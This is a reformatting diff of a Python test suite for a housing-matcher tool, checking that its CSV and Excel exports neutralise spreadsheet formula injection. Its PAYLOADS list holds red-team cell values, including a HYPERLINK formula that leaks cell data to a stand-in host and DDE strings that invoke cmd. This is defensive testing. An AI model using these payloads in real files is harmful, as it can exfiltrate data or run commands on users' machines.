@@ -80,8 +80,14 @@ def test_validate_refuses_a_formula_id_naming_file_row_and_column(tmp_path):
 ROOT = Path(__file__).resolve().parents[2]
 TINY = ROOT / "instances" / "tiny"
 # what a red team puts in a cell: a hyperlink that leaks, DDE, the @ operator, tab and CR starts
-PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+31 Wonen", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+31 Wonen",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
 PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")
 
 
@@ -96,8 +102,12 @@ def raw(path: Path) -> str:
 
 def formula_cells(rows: list[list[str]]) -> list[str]:
     """The cells that begin like a formula; a plain number (`-1.5`) is a number, not a formula."""
-    return [cell for row in rows for cell in row
-            if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)]
+    return [
+        cell
+        for row in rows
+        for cell in row
+        if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)
+    ]
 
 
 def folder_formula_cells(folder: Path) -> dict[str, list[str]]:
@@ -113,19 +123,36 @@ def folder_formula_cells(folder: Path) -> dict[str, list[str]]:
 
 
 def test_csv_text_neutralises_text_cells_and_headers_not_numbers():
-    frame = pd.DataFrame({"=name": ["=1+1", "-x", "C01", None], "score": [-1.5, 2.0, -0.0, 3.25],
-                          "count": [-3, 4, 5, 6], "mixed": pd.Series(["@x", -2.5, 7, "ok"], dtype=object)})
+    frame = pd.DataFrame(
+        {
+            "=name": ["=1+1", "-x", "C01", None],
+            "score": [-1.5, 2.0, -0.0, 3.25],
+            "count": [-3, 4, 5, 6],
+            "mixed": pd.Series(["@x", -2.5, 7, "ok"], dtype=object),
+        }
+    )
     rows = csv_cells(csv_text(frame))
-    assert rows == [["'=name", "score", "count", "mixed"], ["'=1+1", "-1.5", "-3", "'@x"],
-                    ["'-x", "2.0", "4", "-2.5"], ["C01", "-0.0", "5", "7"], ["", "3.25", "6", "ok"]]
+    assert rows == [
+        ["'=name", "score", "count", "mixed"],
+        ["'=1+1", "-1.5", "-3", "'@x"],
+        ["'-x", "2.0", "4", "-2.5"],
+        ["C01", "-0.0", "5", "7"],
+        ["", "3.25", "6", "ok"],
+    ]
     assert formula_cells(rows) == []
 
 
 @pytest.mark.parametrize("options", [{}, {"float_format": "%.3g"}, {"sep": ";"}, {"header": False}])
 def test_csv_text_is_plain_to_csv_for_clean_data(options):
     """For data without formula-like text, csv_text is exactly `to_csv(index=False, lineterminator="\\n")`."""
-    frame = pd.DataFrame({"client_id": ["C01", "C02"], "weight": [1.23456789012, -2.0], "n": [1, -2],
-                          "kind": pd.Categorical(["room", "cluster"])})
+    frame = pd.DataFrame(
+        {
+            "client_id": ["C01", "C02"],
+            "weight": [1.23456789012, -2.0],
+            "n": [1, -2],
+            "kind": pd.Categorical(["room", "cluster"]),
+        }
+    )
     assert csv_text(frame, **options) == frame.to_csv(index=False, lineterminator="\n", **options)
 
 
@@ -144,18 +171,30 @@ def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
     """csv.writer leaves a bare CR unquoted with "\\n" line ends, so "x\\r=CMD()" would start a row
     whose first cell is a formula; with a CR anywhere the file is quoted throughout."""
     frame = pd.DataFrame({"landlord": ["Elan\r=HYPERLINK(1)", "Pré Wonen"], "rent": [650.0, -1.5]})
-    assert csv_cells(csv_text(frame)) == [["landlord", "rent"], ["Elan\r=HYPERLINK(1)", "650.0"],
-                                          ["Pré Wonen", "-1.5"]]
+    assert csv_cells(csv_text(frame)) == [
+        ["landlord", "rent"],
+        ["Elan\r=HYPERLINK(1)", "650.0"],
+        ["Pré Wonen", "-1.5"],
+    ]
     assert csv_cells(csv_rows_text([["a", "x\r@y"], ["b", "c"]])) == [["a", "x\r@y"], ["b", "c"]]
 
 
 def test_csv_rows_text_keeps_numbers_only_in_number_columns():
     """Cells read from a CSV are all text: only where a column holds numbers is `-0` kept as it is."""
-    rows = [["unit_id", "rent", "max_household"], ["=U1", "-0", "+2"], ["U2", "-1+1", "+1_000"],
-            ["U3", "-1,5", "@x"], ["U4", -2.5, None]]
+    rows = [
+        ["unit_id", "rent", "max_household"],
+        ["=U1", "-0", "+2"],
+        ["U2", "-1+1", "+1_000"],
+        ["U3", "-1,5", "@x"],
+        ["U4", -2.5, None],
+    ]
     assert csv_cells(csv_rows_text(rows, ";", number_columns={1, 2}), ";") == [
-        ["unit_id", "rent", "max_household"], ["'=U1", "-0", "+2"], ["U2", "'-1+1", "+1_000"],
-        ["U3", "-1,5", "'@x"], ["U4", "-2.5", ""]]
+        ["unit_id", "rent", "max_household"],
+        ["'=U1", "-0", "+2"],
+        ["U2", "'-1+1", "+1_000"],
+        ["U3", "-1,5", "'@x"],
+        ["U4", "-2.5", ""],
+    ]
     assert csv_cells(csv_rows_text(rows[1:2])) == [["'=U1", "'-0", "'+2"]]
 
 
@@ -163,8 +202,12 @@ TEXT = st.text(alphabet=st.one_of(st.sampled_from("=+-@\t\r\n\"';, x1"), st.char
 
 
 @settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
-@given(columns=st.lists(TEXT, min_size=1, max_size=4), data=st.data(),
-       dtype=st.sampled_from([object, "str"]), quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
+@given(
+    columns=st.lists(TEXT, min_size=1, max_size=4),
+    data=st.data(),
+    dtype=st.sampled_from([object, "str"]),
+    quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]),
+)
 def test_csv_text_of_any_text_frame_holds_no_formula(columns, data, dtype, quoting):
     """Parsed back with the csv module, no cell of csv_text begins like a formula; every cell and
     the number of rows survive (a `'` in front of formula-like text, nothing else changed)."""
@@ -172,7 +215,9 @@ def test_csv_text_of_any_text_frame_holds_no_formula(columns, data, dtype, quoti
     frame = pd.DataFrame(cells, columns=columns, dtype=dtype)
     rows = csv_cells(csv_text(frame, quoting=quoting))
     assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []
-    assert rows == [[neutralise(label) for label in columns]] + [[neutralise(cell) for cell in row] for row in cells]
+    assert rows == [[neutralise(label) for label in columns]] + [
+        [neutralise(cell) for cell in row] for row in cells
+    ]
 
 
 @settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
@@ -216,7 +261,9 @@ def test_write_proposal_holds_no_formula(tmp_path, monkeypatch):
     proposals = csv_cells(raw(out / "proposals.csv"))
     assert proposals[1][proposals[0].index("landlord")] == "'" + PAYLOADS[0]
     assert len(csv_cells(raw(out / "unmatched.csv"))) == len(proposal.unmatched()) + 1
-    assert result["outputs"]["proposals.csv"] == hashlib.sha256((out / "proposals.csv").read_bytes()).hexdigest()
+    assert (
+        result["outputs"]["proposals.csv"] == hashlib.sha256((out / "proposals.csv").read_bytes()).hexdigest()
+    )
 
 
 def test_redacted_csv_holds_no_formula(tiny_copy, tmp_path):
@@ -248,10 +295,13 @@ def test_redacted_values_the_reader_accepts_round_trip(tiny_copy, tmp_path):
 
     units, neighbourhoods = tiny_copy / "units.csv", tiny_copy / "neighbourhoods.csv"
     units.write_text(units.read_text(encoding="utf-8").replace(",650,1,", ",+650,+1,"), encoding="utf-8")
-    neighbourhoods.write_text(neighbourhoods.read_text(encoding="utf-8").replace(",6304,0,", ",6304,-0,"),
-                              encoding="utf-8")
+    neighbourhoods.write_text(
+        neighbourhoods.read_text(encoding="utf-8").replace(",6304,0,", ",6304,-0,"), encoding="utf-8"
+    )
     capacity = tiny_copy / "support_capacity.csv"
-    capacity.write_text(capacity.read_text(encoding="utf-8").replace("\nGM0453,", '\n"\tGM0453",'), encoding="utf-8")
+    capacity.write_text(
+        capacity.read_text(encoding="utf-8").replace("\nGM0453,", '\n"\tGM0453",'), encoding="utf-8"
+    )
     source = read_instance(tiny_copy)
     redact_instance(tiny_copy, tmp_path / "shared", key="k")
     shared = tmp_path / "shared"
@@ -259,7 +309,9 @@ def test_redacted_values_the_reader_accepts_round_trip(tiny_copy, tmp_path):
     assert ",6304,-0," in raw(shared / "neighbourhoods.csv")
     assert "\nGM0453,protected" in raw(shared / "support_capacity.csv")
     copy = read_instance(shared)
-    assert [(u.rent, u.max_household) for u in copy.units] == [(u.rent, u.max_household) for u in source.units]
+    assert [(u.rent, u.max_household) for u in copy.units] == [
+        (u.rent, u.max_household) for u in source.units
+    ]
     assert (copy.municipalities, copy.neighbourhoods) == (source.municipalities, source.neighbourhoods)
     assert copy.support_capacity == source.support_capacity
 
@@ -285,8 +337,9 @@ def test_redacted_workbook_keeps_a_formulas_result_not_the_formula(tmp_path):
         parts = {name: archive.read(name) for name in archive.namelist()}
     sheet = next(n for n, d in parts.items() if n.startswith("xl/worksheets/") and b'<f>"GM0453"</f>' in d)
     # what Excel saves: the formula and its result, typed as text
-    parts[sheet] = parts[sheet].replace(b'<c r="K3"><f>"GM0453"</f><v />',
-                                        b'<c r="K3" t="str"><f>"GM0453"</f><v>GM0453</v>')
+    parts[sheet] = parts[sheet].replace(
+        b'<c r="K3"><f>"GM0453"</f><v />', b'<c r="K3" t="str"><f>"GM0453"</f><v>GM0453</v>'
+    )
     with zipfile.ZipFile(source, "w") as archive:
         for name, data in parts.items():
             archive.writestr(name, data)
@@ -349,9 +402,17 @@ def test_stress_report_csv_holds_no_formula(tmp_path, monkeypatch):
     """Every table the stress report writes holds no formula; negative numbers stay numbers."""
     from matcher.stress import load_sweep, report, run_sweep
 
-    result = run_sweep(load_sweep(ROOT / "instances" / "scenarios" / "tiny.yaml"), serial=True, progress=False)
-    for frame in (result.kpis, result.summary, result.placements, result.neighbourhoods, result.intake,
-                  result.scenarios):
+    result = run_sweep(
+        load_sweep(ROOT / "instances" / "scenarios" / "tiny.yaml"), serial=True, progress=False
+    )
+    for frame in (
+        result.kpis,
+        result.summary,
+        result.placements,
+        result.neighbourhoods,
+        result.intake,
+        result.scenarios,
+    ):
         text = [column for column in frame.columns if pd.api.types.is_string_dtype(frame[column])]
         numbers = [column for column in frame.columns if pd.api.types.is_float_dtype(frame[column])]
         for position, column in enumerate(text):
@@ -364,7 +425,13 @@ def test_stress_report_csv_holds_no_formula(tmp_path, monkeypatch):
     monkeypatch.setattr(report, "report_html", lambda *args, **kwargs: "")
     written = report.write_outputs(result, tmp_path / "stress")
     assert {name for name in written if name.endswith(".csv")} == {
-        "kpis.csv", "summary.csv", "placements.csv", "neighbourhoods.csv", "intake.csv", "scenarios.csv"}
+        "kpis.csv",
+        "summary.csv",
+        "placements.csv",
+        "neighbourhoods.csv",
+        "intake.csv",
+        "scenarios.csv",
+    }
     assert folder_formula_cells(tmp_path / "stress") == {}
     summary = raw(tmp_path / "stress" / "summary.csv")
     assert ",-1.5," in summary or "\n-1.5," in summary or ",-1.5\n" in summary
@@ -381,14 +448,24 @@ def test_history_csv_holds_no_formula(monkeypatch):
     monkeypatch.setattr(matcher.review.history, "weekly_history", lambda ledger: frame)
     result = CliRunner().invoke(main, ["history", "--ledger", "ledger.sqlite", "--format", "csv"])
     assert result.exit_code == 0, result.output
-    assert csv_cells(result.output) == [["week", "proposed", "open"], ["'" + PAYLOADS[0], "5", "0.5"],
-                                        ["2026-11-23", "-1", "-2.5"]]
+    assert csv_cells(result.output) == [
+        ["week", "proposed", "open"],
+        ["'" + PAYLOADS[0], "5", "0.5"],
+        ["2026-11-23", "-1", "-2.5"],
+    ]
 
 
-@pytest.mark.parametrize("landlord,client,unit", [
-    (PAYLOADS[0], "C01", "U01"), ("Pré Wonen", "=1+1", "@U1"), ("+31 Wonen", "-C1", "+U1"),
-    ("-x", "@SUM(A1)", "U01"), ("\t=1+1", "C01", "\r=U1"), ("=Elan\r", "C01", "U1\r\n=1+1"),
-])
+@pytest.mark.parametrize(
+    "landlord,client,unit",
+    [
+        (PAYLOADS[0], "C01", "U01"),
+        ("Pré Wonen", "=1+1", "@U1"),
+        ("+31 Wonen", "-C1", "+U1"),
+        ("-x", "@SUM(A1)", "U01"),
+        ("\t=1+1", "C01", "\r=U1"),
+        ("=Elan\r", "C01", "U1\r\n=1+1"),
+    ],
+)
 def test_landlord_workbook_types_formula_like_text_as_text_and_imports(tmp_path, landlord, client, unit):
     """A formula-like landlord, client or unit that reaches workbook_bytes is a string cell (never a
     formula), and the returned workbook imports: its hidden record is not 'damaged'."""
@@ -396,20 +473,45 @@ def test_landlord_workbook_types_formula_like_text_as_text_and_imports(tmp_path,
     from matcher.review.workbook import FIRST_ROW, KEYS, REVIEW_SHEET, read_workbook, workbook_bytes
 
     pair = ProposedPair(client, unit, landlord, "GM0392", "WK039201", "social_rental", "light", 1)
-    record = ProposalRecord("0123456789abcdef", date(2026, 11, 23), date(2026, 11, 29), "tiny", 8, 6, 5, 3,
-                            (pair,))
-    rows = [{"client_id": client, "household_size": 1, "support_intensity": "light", "provider_needed": "no",
-             "unit_id": unit, "rent": 650.0, "move_in_from": date(2026, 11, 23), "landlord": landlord,
-             "municipality_id": "GM0392", "neighbourhood_id": "WK039201", "unit_type": "social_rental", "load": 1}]
+    record = ProposalRecord(
+        "0123456789abcdef", date(2026, 11, 23), date(2026, 11, 29), "tiny", 8, 6, 5, 3, (pair,)
+    )
+    rows = [
+        {
+            "client_id": client,
+            "household_size": 1,
+            "support_intensity": "light",
+            "provider_needed": "no",
+            "unit_id": unit,
+            "rent": 650.0,
+            "move_in_from": date(2026, 11, 23),
+            "landlord": landlord,
+            "municipality_id": "GM0392",
+            "neighbourhood_id": "WK039201",
+            "unit_type": "social_rental",
+            "load": 1,
+        }
+    ]
     path = tmp_path / "book.xlsx"
     path.write_bytes(workbook_bytes(record, landlord, rows))
     with zipfile.ZipFile(path) as archive:
         assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
     book = load_workbook(path)
-    formula_like = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
-                    if isinstance(cell.value, str) and cell.value.lstrip("\r\n\t").startswith(("=", "+", "-", "@"))]
+    formula_like = [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and cell.value.lstrip("\r\n\t").startswith(("=", "+", "-", "@"))
+    ]
     assert formula_like and all(cell.data_type == "s" for cell in formula_like)
-    assert not [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert not [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
 
     book[REVIEW_SHEET].cell(row=FIRST_ROW, column=KEYS.index("decision") + 1, value="accept")
     book.save(path)
